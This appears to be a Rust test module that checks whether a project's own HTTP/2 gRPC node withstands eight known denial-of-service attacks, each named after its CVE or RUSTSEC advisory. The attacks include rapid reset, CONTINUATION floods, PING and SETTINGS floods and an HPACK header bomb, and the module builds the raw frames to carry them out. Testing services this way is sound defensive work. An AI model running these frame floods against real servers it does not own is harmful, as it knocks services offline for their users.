//! What is wrong with no single frame: so many of them.

use rustls::ClientConfig;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, Frames, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    call_head, frame,
};

/// An attack on HTTP/2 itself.
pub struct Attack {
    /// What it is called, and after which advisory.
    pub name: &'static str,
    /// Whether the attacker reads what comes back.
    takes_answers: bool,
    /// What is sent in each round.
    round: fn(u32) -> Vec<u8>,
}

/// All of them.
pub const ATTACKS: [Attack; 8] = [
    Attack {
        name: "rapid reset (CVE-2023-44487, RUSTSEC-2023-0034)",
        takes_answers: true,
        round: |round| [open(round), reset(round)].concat(),
    },
    Attack {
        name: "rapid reset without reading (RUSTSEC-2024-0003)",
        takes_answers: false,
        round: |round| [open(round), reset(round)].concat(),
    },
    Attack {
        name: "endless CONTINUATION (RUSTSEC-2024-0332)",
        takes_answers: true,
        round: |round| match round {
            0 => frame(HEADERS, 0, 1, &call_head(PATH)),
            _ => frame(CONTINUATION, 0, 1, &long_header()),
        },
    },
    Attack {
        name: "empty DATA without end (RUSTSEC-2026-0258)",
        takes_answers: true,
        round: |round| match round {
            0 => open(0),
            _ => frame(DATA, 0, 1, &[]).repeat(20),
        },
    },
    Attack {
        // A window that grows by nothing is an error of the stream, which the server resets.
        name: "resets that the server is made to send (CVE-2025-8671)",
        takes_answers: true,
        round: |round| {
            let nothing = frame(WINDOW_UPDATE, 0, stream(round), &[0; 4]);
            [open(round), nothing].concat()
        },
    },
    Attack {
        name: "PING without reading (CVE-2019-9512)",
        takes_answers: false,
        round: |_| frame(PING, 0, 0, &[0; 8]).repeat(10),
    },
    Attack {
        name: "SETTINGS without reading (CVE-2019-9515)",
        takes_answers: false,
        round: |_| frame(SETTINGS, 0, 0, &[]).repeat(10),
    },
    Attack {
        // One entry of the dynamic table, named again and again by one byte each.
        name: "a bomb of compressed headers (CVE-2016-6581)",
        takes_answers: true,
        round: |round| {
            let mut block = call_head(PATH);
            block.extend(indexed_header());
            block.extend([0xbe].repeat(8_000));
            frame(HEADERS, END_HEADERS, stream(round), &block)
        },
    },
];

impl Attack {
    /// Sends that many rounds, or as many as the node lets; answers how many.
    pub async fn run(&self, address: &str, config: ClientConfig, rounds: u32) -> u32 {
        let mut frames = Frames::connect(address, config, self.takes_answers).await;
        let mut sent = 0;
        while sent < rounds {
            // Who does not read may find the way full: that is the end of what can be sent.
            let round = (self.round)(sent);
            match tokio::time::timeout(STALL, frames.send(&round)).await {
                Ok(Ok(())) => sent += 1,
                Ok(Err(_)) | Err(_) => break,
            }
        }
        frames.end().await;
        sent
    }
}

/// The stream of a round: clients' have odd numbers.
fn stream(round: u32) -> u32 {
    2 * round + 1
}

fn open(round: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream(round), &call_head(PATH))
}

fn reset(round: u32) -> Vec<u8> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    frame(RST_STREAM, 0, stream(round), &CANCEL)
}

/// A header of a kilobyte that is put into no table.
fn long_header() -> Vec<u8> {
    // The length 1000 is 127 and 873 more, in groups of seven bits.
    [&[0, 1, b'x', 127, 0xe9, 0x06][..], &[b'y'; 1000]].concat()
}

/// A header of a kilobyte that is put into the dynamic table, as its entry 62.
fn indexed_header() -> Vec<u8> {
    let mut header = long_header();
    header[0] = 0x40;
    header
}

const PATH: &str = "/ward.v1.ClusterService/GetClusterStatus";

/// A node that takes nothing more for so long will take no more.
const STALL: std::time::Duration = std::time::Duration::from_secs(2);
